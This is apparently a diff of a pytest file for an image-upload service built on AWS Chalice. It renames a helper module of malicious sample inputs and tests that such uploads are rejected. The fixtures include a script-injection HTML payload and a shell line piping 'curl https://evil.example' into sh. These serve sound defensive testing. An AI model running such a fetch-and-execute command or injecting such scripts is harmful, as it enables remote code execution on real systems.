@@ -13,7 +13,7 @@ from botocore.exceptions import ClientError
 from chalice.test import Client
 
 from chalicelib import services
-from tests import hostile, images
+from tests import crafted, images
 from tests.conftest import ENV, Aws, count_calls, invoke
 
 
@@ -135,9 +135,9 @@ def test_duplicate_delivery_writes_nothing_and_notifies_nothing(client: Client, 
     assert len(aws.notifications()) == 1
 
 
-@pytest.mark.parametrize("name", sorted(hostile.REJECTED))
+@pytest.mark.parametrize("name", sorted(crafted.REJECTED))
 def test_bad_user_data_fails_cleanly_once(client: Client, aws: Aws, name: str) -> None:
-    build, code = hostile.REJECTED[name]
+    build, code = crafted.REJECTED[name]
     data = build()
     image_id = new_upload(client)
     event = deliver(client, aws, image_id, data)  # returns normally: no Lambda retry
@@ -302,7 +302,7 @@ def test_an_allowed_format_declared_as_another_is_processed_and_flagged(client: 
 @pytest.mark.parametrize(
     "data",
     [
-        hostile.svg_with_script(),
+        crafted.svg_with_script(),
         b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
         b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n",
         b"#!/bin/sh\ncurl https://evil.example | sh\n",
